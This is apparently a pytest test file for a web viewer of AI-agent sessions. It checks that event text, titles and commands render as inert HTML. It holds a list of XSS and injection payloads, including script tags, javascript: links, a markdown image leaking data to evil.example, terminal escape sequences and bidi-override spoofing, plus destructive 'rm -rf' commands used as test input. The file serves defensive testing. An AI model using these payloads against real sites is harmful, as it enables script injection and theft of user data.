"""One template an event kind, the same bytes always, and nothing in them that acts."""

import gzip
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from jinja2 import UndefinedError

from breakglass.events import ENDINGS, KINDS, Event
from breakglass.web.page import render, terminal
from tests.help.html_check import judge
from tests.help.preview import pages
from tests.help.sample_session import history

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "</textarea></title></style></pre></li><script>alert(1)</script>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&colon;alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:x) [b](file:///etc/passwd) [c](//evil.example/x) [d](/logout)",
    "![a](https://evil.example/leak?q=secret)",
    "[![a](https://evil.example/x)](javascript:alert(1))",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src=https://evil.example></iframe><base href=//evil.example><meta http-equiv=refresh content=0>",
    "<form action=https://evil.example><button>Allow</button></form>",
    "<style>*{background:url(https://evil.example)}</style>",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    '```"><script>\nx\n```',
    "{{ 7 * 7 }}{% raw %}{{ config }}",
    "\x1b]8;;javascript:alert(1)\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07\x1b]0;title\x07\x1b[2J\x1b[31m<b>red\x1b[0m",
    "\x9b31m\x9d52;c;x\x9c\x90q\x9c",
    '\x1b[31;"onmouseover=alert(1);m<i>x',
    "a\r\nid: 99\r\nevent: reset\rdata: x\n\ndata: y",
    "line\u2028separator\u2029paragraph\x85next",
    "rm -rf /tmp/x # \u202e gnihton \u2066\u200b\u2069",
    "\x00\x01\x08\x7f\ufeff\ud800",
]
"""What agents, tools and their files may say (ATTACKS.md): each goes into every string of every kind."""


def events_with(text: str) -> list[Event]:
    """Return an event of every kind, with `text` wherever an event may hold one."""
    return [
        {key: value if key in FIXED else _put(value, text) for key, value in event.items()}
        for event in history()
    ]


FIXED = {"id", "ts", "kind", "turn", "status", "queued"}
"""What is ours, not an agent's."""


def _put(value: Any, text: str) -> Any:
    if isinstance(value, str):
        return text
    if isinstance(value, dict):
        return {key: _put(item, text) for key, item in value.items()} | {text: text}
    return [_put(item, text) for item in value] if isinstance(value, list) else value


def test_every_kind_has_its_template() -> None:
    shown = {event["kind"] for event in history()} - {"weather"}
    assert shown == {*KINDS, "foreign"}, "the sample night must hold every kind"
    for event in history():
        assert ('class="line unknown"' in render.fragment(event)) == (event["kind"] == "weather")


@pytest.mark.parametrize("event", history(), ids=lambda event: f"{event['id']}-{event['kind']}")
def test_a_fragment_is_one_line_with_the_number_of_its_event(event: Event) -> None:
    html = render.fragment(event)
    assert html.startswith("<li ")
    assert html.endswith("</li>")
    assert f' id="e{event["id"]}" data-kind="{event["kind"]}"' in html
    assert f'href="#e{event["id"]}"' in html
    assert judge(html).found == []
    assert len(html.splitlines()) == 1


def test_rendering_is_the_same_every_time() -> None:
    once = [render.fragment(event) for event in history()]
    assert [render.fragment(json.loads(json.dumps(event))) for event in history()] == once


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_an_agent_says_is_inert(attack: str) -> None:
    for event in events_with(attack):
        for html in (render.fragment(event), render.fragment(event, whole=True, settled=True)):
            assert judge(html).found == [], event["kind"]
            assert not set("\r\n\x1b\x9b\x07\u2028\u202e") & set(html), event["kind"]
            html.encode()


@pytest.mark.parametrize("kind", [*KINDS, "foreign", "weather", "", None, 7])
def test_an_event_of_any_shape_is_shown(kind: object) -> None:
    odd: list[Any] = [None, 7, True, [], {}, [1], {"a": {"b": None}}, "text", 1e300]
    for value in odd:
        keys = {key for own in KINDS.values() for key in (*own.required, *own.optional)}
        html = render.fragment({"id": 5, "kind": kind, **dict.fromkeys(keys, value)})
        assert judge(html).found == []
        assert 'id="e5"' in html
    assert 'id="e5"' in render.fragment({"id": 5, "kind": kind})


def test_an_unknown_kind_is_shown_raw() -> None:
    event = next(event for event in history() if event["kind"] == "weather")
    text = judge(render.fragment(event)).text
    assert json.loads(text[text.index("{\n") :]) == event


@given(st.text(max_size=300), st.sampled_from(sorted(KINDS)))
def test_any_text_is_inert(text: str, kind: str) -> None:
    required, optional = KINDS[kind].required, KINDS[kind].optional
    html = render.fragment({"id": 1, "kind": kind, **dict.fromkeys((*required, *optional), text)})
    assert judge(html).found == []
    assert "\n" not in html


@pytest.mark.parametrize(
    "kind", ["user", "text", "tool", "tool_result", "error", "result", "foreign", "weather"]
)
def test_a_huge_text_is_folded_with_its_size(kind: str) -> None:
    huge = "0123456789abcde\n" * (1 << 16)
    event = {**next(event for event in history() if event["kind"] == kind)}
    for key in {"text", "output", "input", "error", "result", "sky"} & set(event):
        event[key] = _put(event[key], huge)
    html = render.fragment(event)
    assert len(html) < 64 << 10
    assert f'href="?line={event["id"]}"' in html
    assert "show all" in html
    whole = render.fragment(event, whole=True)
    assert len(whole) > 1 << 20
    assert "show all" not in whole


def test_the_size_of_what_is_folded_is_true() -> None:
    [event] = [event for event in history() if event.get("truncated")]
    text = judge(render.fragment(event)).text
    assert f"show all {len(event['output']) / 1024:.0f} KB" in text
    assert "22 KB more were not kept" in text


def test_what_would_run_is_shown_whole() -> None:
    command = "echo start\n" + "true &&\n" * 20_000 + "rm -rf /srv"
    event = {
        **next(event for event in history() if event["kind"] == "permission"),
        "input": {"command": command},
    }
    assert command in judge(render.fragment(event)).text


def test_a_command_cannot_look_other_than_it_is() -> None:
    event = {**next(event for event in history() if event["kind"] == "permission")}
    event["input"] = {"command": "cat \u202egpj.x\u202c \u200b; rm x\r# harmless"}
    text = judge(render.fragment(event)).text
    assert "cat \u27e8U+202E\u27e9gpj.x\u27e8U+202C\u27e9 \u27e8U+200B\u27e9; rm x\u240d# harmless" in text


# --- several events ----------------------------------------------------------------------------------


def test_prose_is_sent_once() -> None:
    events = history()
    compacted = render.compact(events)
    assert [event["id"] for event in compacted] == sorted({event["id"] for event in compacted})
    assert [event["text"] for event in compacted if event["kind"] == "delta"] == [
        "While that runs:\n\nthe journal of **this** boot is kept."
    ]
    assert compacted[-1] == events[-1]


def test_prose_of_two_speakers_is_kept_apart() -> None:
    def delta(number: int, text: str, parent: str | None = None) -> Event:
        return {"id": number, "kind": "delta", "turn": 1, "text": text} | (
            {"parent": parent} if parent else {}
        )

    events = [delta(1, "a"), delta(2, "x", "t"), delta(3, "y", "t"), delta(4, "b")]
    done = {"id": 5, "kind": "text", "turn": 1, "text": "xy", "parent": "t"}
    assert [(event["id"], event["text"]) for event in render.compact(events)] == [
        (1, "a"),
        (3, "xy"),
        (4, "b"),
    ]
    assert [(event["id"], event["text"]) for event in render.compact([*events, done])] == [
        (4, "ab"),
        (5, "xy"),
    ]


def test_no_events_are_no_fragments() -> None:
    assert render.compact([]) == []
    assert list(render.fragments([])) == []


def test_only_an_open_question_has_buttons() -> None:
    shown = dict(render.fragments(history()))
    asked = [event for event in history() if event["kind"] == "permission"]
    assert ["<button" in shown[event["id"]] for event in asked] == [False, True]
    end = {"id": 999, "kind": "turn_end", "turn": asked[1]["turn"], "status": "lost", "duration_ms": 0}
    assert "<button" not in dict(render.fragments([*history(), end]))[asked[1]["id"]]


def test_only_a_prompt_that_waits_can_be_taken_back() -> None:
    shown = dict(render.fragments(history()))
    queued = [event["id"] for event in history() if event["kind"] == "queued"]
    assert ["<button" in shown[number] for number in queued] == [False, False, True]


@pytest.mark.parametrize(
    ("by", "words"),
    [
        ("timeout", "Refused: nobody answered in time."),
        ("agent", "The agent took its question back."),
        ("settings", "Refused by the settings: no."),
        ("ada", "Refused by ada: no."),
    ],
)
def test_who_answered_is_said_in_words(by: str, words: str) -> None:
    message = None if by in {"timeout", "agent"} else "no"
    event = {
        "id": 2,
        "kind": "answer",
        "turn": 1,
        "request": "r",
        "allow": False,
        "by": by,
        "message": message,
    }
    assert judge(render.fragment(event)).text == f"2{words}"


@pytest.mark.parametrize("status", ENDINGS)
def test_every_ending_is_said_in_words(status: str) -> None:
    event = {"id": 2, "kind": "turn_end", "turn": 1, "status": status, "duration_ms": 61_000}
    text = judge(render.fragment(event)).text
    assert "1 min 1 s" in text
    assert status == "lost" or "Lost" not in text


@pytest.mark.parametrize("how", ["exit status 3", "ended by signal INT"])
def test_a_result_blames_no_agent(how: str) -> None:
    """A shell is one, and what failed may be the command, or have been stopped by who gave it."""
    event = {"id": 2, "kind": "result", "turn": 1, "is_error": True, "result": how, "duration_ms": 16_000}
    assert judge(render.fragment(event)).text.split() == f"2 \u2717 Failed after 16 s{how}".split()


# --- pages -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(pages()))
def test_a_page_holds_nothing_inline_and_nothing_foreign(name: str) -> None:
    html = pages()[name]
    read = judge(html)
    assert read.found == []
    assert "style" not in read.tags
    assert "<script>" not in html
    assert html.count("<script") == html.count('src="static/')


def test_every_plain_form_carries_the_token_against_forgery() -> None:
    for html in pages().values():
        forms = [form.partition("</form>")[0] for form in html.split("<form")[1:]]
        posts = [form for form in forms if 'method="post"' in form]
        assert all('name="csrf" value="csrf"' in form for form in posts)
        assert all(form in posts or 'role="search"' in form for form in forms)


def test_a_title_is_inert_wherever_it_stands() -> None:
    from tests.help.preview import NOW, session

    for attack in ATTACKS:
        asks = session(attack, "ok", first_prompt=attack, last_line=attack, agent=attack, model=attack)
        shared = {
            "csrf": attack,
            "root": "",
            "host": "db1",
            "is_shell": False,
            "may_act": True,
            "static": "/static/0",
            "now": NOW,
            "key": attack,
            "presets": [],
        }
        names = {**shared, "session": asks, "listed": ([asks], 1), "events": [], "first_id": 1, "last_id": 1}
        html = render.page("session.html", {**names, "earlier": True, "later": True, "beat": 20})
        assert judge(html).found == []
        html = render.page("error.html", {**shared, "status": 500, "title": attack, "detail": attack})
        assert judge(html).found == []


def test_a_name_that_a_page_needs_and_has_not_is_an_error() -> None:
    with pytest.raises(UndefinedError):
        render.page("login.html", {"csrf": "", "now": ""})


def test_the_list_shows_first_who_asks_then_who_works_then_the_latest() -> None:
    def row(name: str, updated: str, *, runs: bool = False, asks: bool = False) -> dict[str, Any]:
        return {"id": name, "updated": updated, "turn_active": runs, "asking": asks}

    rows = [
        row("old", "1"),
        row("new", "4"),
        row("runs", "2", runs=True),
        row("asks", "1", runs=True, asks=True),
    ]
    assert [one["id"] for one in render.by_urgency(rows)] == ["asks", "runs", "new", "old"]


def test_an_empty_list_says_what_to_do() -> None:
    assert "No sessions yet. Say what is wrong, and the agent will start looking." in pages()["empty"]


def test_all_that_a_browser_loads_weighs_less_than_60_kb() -> None:
    files = [path.read_bytes() for path in render.STATIC.iterdir()]
    assert sum(len(gzip.compress(data)) for data in [*files, pages()["session"].encode()]) < 60_000


def test_the_static_address_is_of_this_content() -> None:
    assert render.static_root() == render.static_root()
    assert len(render.static_root()) == len("/static/") + 12


def test_scripts_use_no_sink_that_runs_markup() -> None:
    for path in render.STATIC.glob("*.js"):
        text = path.read_text(encoding="utf-8")
        for sink in (
            "inner" + "HTML",
            "outerHTML =",
            "insertAdjacent",
            "document.write",
            "eval(",
            "new Function",
        ):
            assert sink not in text, path.name


def test_a_page_preloads_every_script_it_imports() -> None:
    html = pages()["session"]
    login_and_worker = {"login.js", "sw.js"}
    for path in render.STATIC.glob("*.js"):
        assert (f"static/{path.name}" in html) == (path.name not in login_and_worker)
        if path.name not in login_and_worker:
            assert f'"{path.name}"' in (render.STATIC / "sw.js").read_text(encoding="utf-8")


def test_folding_loses_nothing_that_is_short() -> None:
    text = "x" * terminal.KEPT_WHOLE
    assert terminal.fold(text, whole=False) == (text, 0, "")
